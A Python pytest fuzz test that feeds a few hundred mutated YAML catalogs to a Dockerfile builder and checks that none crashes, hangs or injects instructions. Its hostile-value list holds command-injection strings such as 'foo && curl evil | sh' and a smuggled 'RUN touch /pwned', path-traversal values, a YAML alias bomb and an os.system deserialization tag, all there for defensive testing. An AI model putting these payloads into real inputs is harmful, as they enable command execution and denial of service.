"""A seeded fuzz of the real catalog: a few hundred mutants (wrong types, missing and unknown keys,
YAML oddities, hostile strings), each either refused with a CatalogError (exit 2, a path or line
named) or accepted; never a traceback or a hang; and an accepted one renders every Dockerfile with
the very instructions the catalog's own renders with (nothing in it adds an instruction)."""

from __future__ import annotations

import copy
import os
import random
import re
import signal
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
import yaml

from builder import catalog, render, yamlfile
from builder.errors import CatalogError
from builder.targets import Target, expand

ROOT = Path(__file__).resolve().parents[2]
# the real catalog, but for speed four languages of it: each shape of entry is among them (overrides,
# fixtures, fonts, a blocked version, links and scripts among the commands)
WHOLE = yamlfile.load((ROOT / "catalog.yaml").read_text(), Path("catalog.yaml"))
DATA = {**WHOLE, "languages": {name: WHOLE["languages"][name] for name in ("python", "node", "java", "php")}}
TEXT = yaml.safe_dump(DATA, sort_keys=False, allow_unicode=True)
SEED, MUTANTS = 20261202, 300

HOSTILE: list[Any] = [
    None, True, False, 0, -1, 10**40, 1.5, "", " ", "x" * 5000, "3.11\n", "03.11", "3.11 ", "-v", "a b",
    "bash\nRUN touch /pwned", "foo && curl evil | sh", "'; touch /pwned #", "$(id)", "`id`", "${HOME}", "../../../etc",
    "/etc/passwd\n", "\\", '"', "{version}", "\u202e", "é", [], {}, [[[]]], {"a": {"b": {"c": []}}}, ["x"] * 3,
]  # fmt: skip
TEXT_MUTATIONS: list[Callable[[str], str]] = [
    lambda t: t.replace("languages:\n", "languages:\n  on:\n    title: x\n", 1),  # a key YAML reads as True
    lambda t: t.replace("languages:\n", "languages:\n  123:\n    title: x\n", 1),
    lambda t: t.replace("eol: '2025-04-30'", "eol: 2025-02-30", 1),  # no such date
    lambda t: t.replace("eol: '2025-04-30'", "eol: 2026-06-10T25:61:00", 1),
    lambda t: t + "\n  python:\n    title: again\n",  # a second python: in languages
    lambda t: t.replace("  python:\n", "  python: &p\n", 1) + "\n  cobra: *p\n",
    lambda t: "a: &a [*a]\n",  # an alias of itself
    lambda t: 'a: &a ["lol","lol"]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: [*c,*c,*c]\n',
    lambda t: t.replace("budget_mb: 41", "budget_mb: .nan", 1),
    lambda t: t.replace("budget_mb: 41", "budget_mb: .inf", 1),
    lambda t: t.replace("version: '3.11'", "version: " + "1" * 5000, 1),
    lambda t: t.replace("version: '3.11'", 'version: "3.11\\n"', 1),
    lambda t: t.replace("python:\n    title: Python", "python:\n    title: Python\n    title: Again", 1),
    lambda t: t[: len(t) // 2],
    lambda t: t.replace("\n", "\n\t", 3),
    lambda t: "[" * 10000,
    lambda t: "- " * 5000,
    lambda t: "!!python/object/apply:os.system ['id']\n",
    lambda t: "a: !!binary aGVsbG8=\n",
    lambda t: t.replace("defaults:", "? [complex, key]\n: x\ndefaults:", 1),
]  # fmt: skip


@contextmanager
def deadline(seconds: int) -> Iterator[None]:
    def hang(signum: int, frame: object) -> None:
        raise TimeoutError(f"no answer in {seconds} s: a hang")

    previous = signal.signal(signal.SIGALRM, hang)
    signal.alarm(seconds)
    try:
        yield
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)


def paths(node: Any, at: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    yield at
    if isinstance(node, dict):
        for key, value in node.items():
            yield from paths(value, (*at, key))
    elif isinstance(node, list):
        for index, value in enumerate(node):
            yield from paths(value, (*at, index))


def mutant(rng: random.Random, every: list[tuple[Any, ...]]) -> str:
    """A catalog with one thing wrong in it: a value replaced, a key dropped or added, or its text
    changed where YAML itself is the trap."""
    if rng.random() < 0.15:
        return rng.choice(TEXT_MUTATIONS)(TEXT)
    data = copy.deepcopy(DATA)
    where = rng.choice(every[1:])
    *parents, last = where
    node = data
    for key in parents:
        node = node[key]
    action = rng.random()
    if action < 0.7:
        node[last] = copy.deepcopy(rng.choice(HOSTILE))
    elif action < 0.85:
        del node[last]
    elif isinstance(node[last], dict):
        node[last]["unknown_key"] = rng.choice(HOSTILE[:12])
    else:
        node[last] = str(node[last]) + rng.choice(["\n", " ", "\\", "'", "&&", ";", "|", "$", "*", "?"])
    return yaml.safe_dump(data, sort_keys=False, allow_unicode=True)


def instructions(dockerfile: str) -> list[str]:
    """The instruction words of a Dockerfile's logical lines (continuations joined)."""
    logical = re.sub(r"\\\n", " ", dockerfile)
    return [line.split()[0] for line in logical.splitlines() if line.strip() and not line.startswith("#")]


REAL = catalog.parse(TEXT, Path("catalog.yaml"))
EXPECTED = {t.id: instructions(render.render(t, REAL).dockerfile) for t in expand(REAL, comparators=True)}


INJECTED = ("curl evil", "/pwned", "$(id)", "`id`")


def same_shape(target: Target, accepted: catalog.Catalog) -> None:
    dockerfile = render.render(target, accepted).dockerfile
    said = "\n".join(line for line in dockerfile.splitlines() if not line.startswith("#"))  # comments say, not run
    assert not [bad for bad in INJECTED if bad in said], (
        f"{target.id}: a hostile string in its Dockerfile's instructions"
    )
    got = instructions(dockerfile)
    wanted = EXPECTED.get(target.id) or next(
        shape
        for key, shape in EXPECTED.items()
        if key.startswith(f"{target.language}-") and key.endswith(target.variant)
    )
    assert got == wanted, f"{target.id}: the mutant's Dockerfile has other instructions: {got} != {wanted}"


def test_no_mutant_crashes_hangs_or_injects() -> None:
    rng = random.Random(SEED)
    every = list(paths(DATA))
    refused = accepted = 0
    for number in range(MUTANTS):
        text = mutant(rng, every)
        try:
            with deadline(10):
                parsed = catalog.parse(text, Path("catalog.yaml"))
                for target in expand(parsed, comparators=True):
                    if target.version.blocked is None:
                        same_shape(target, parsed)
            accepted += 1
        except CatalogError as error:
            assert str(error).startswith("catalog.yaml"), error  # it names where
            refused += 1
        except Exception as error:  # a traceback is what this test exists to catch
            pytest.fail(f"mutant {number} ({SEED=}) ended in {type(error).__name__}: {error}\n{text[:2000]}")
    assert refused > MUTANTS // 2 and accepted > 0


@pytest.mark.parametrize("special", ["/dev/zero", "/dev/stdin"])
def test_only_a_regular_file_of_a_sane_size_is_read(special: str, tmp_path: Path) -> None:
    with deadline(5), pytest.raises(CatalogError, match="not a regular file"):
        catalog.load(Path(special))
    fifo = tmp_path / "catalog.fifo"
    os.mkfifo(fifo)
    with deadline(5), pytest.raises(CatalogError, match="not a regular file"):
        catalog.load(fifo)
    big = tmp_path / "big.yaml"
    big.write_bytes(b"#" * (yamlfile.MAX_BYTES + 1))
    with pytest.raises(CatalogError, match="a catalog is at most"):
        catalog.load(big)
    latin = tmp_path / "latin.yaml"
    latin.write_bytes(TEXT.encode().replace(b"title: Python", b"title: Pyth\xf6n", 1))
    with pytest.raises(CatalogError, match=r"catalog.yaml:\d+: not UTF-8 \(byte 0xf6\)|latin.yaml:\d+: not UTF-8"):
        catalog.load(latin)
